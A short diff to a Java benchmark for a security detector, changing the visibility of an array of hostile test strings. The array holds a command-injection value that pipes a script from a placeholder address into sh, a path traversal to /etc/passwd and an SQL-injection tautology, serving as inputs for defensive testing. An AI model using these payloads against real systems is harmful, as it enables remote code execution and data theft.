@@ -41,7 +41,7 @@ import dev.twinlane.detector.Finding;
 @Fork(value = 1, jvmArgsAppend = {"-Xms512m", "-Xmx512m"})
 public class DetectorBenchmark {
     static final int STRINGS = 4096;
-    private static final String[] HOSTILE = {
+    static final String[] HOSTILE = {
         "x; curl http://203.0.113.5/a.sh | sh",
         "..%2f..%2f..%2fetc%2fpasswd",
         "' OR '1'='1' --",
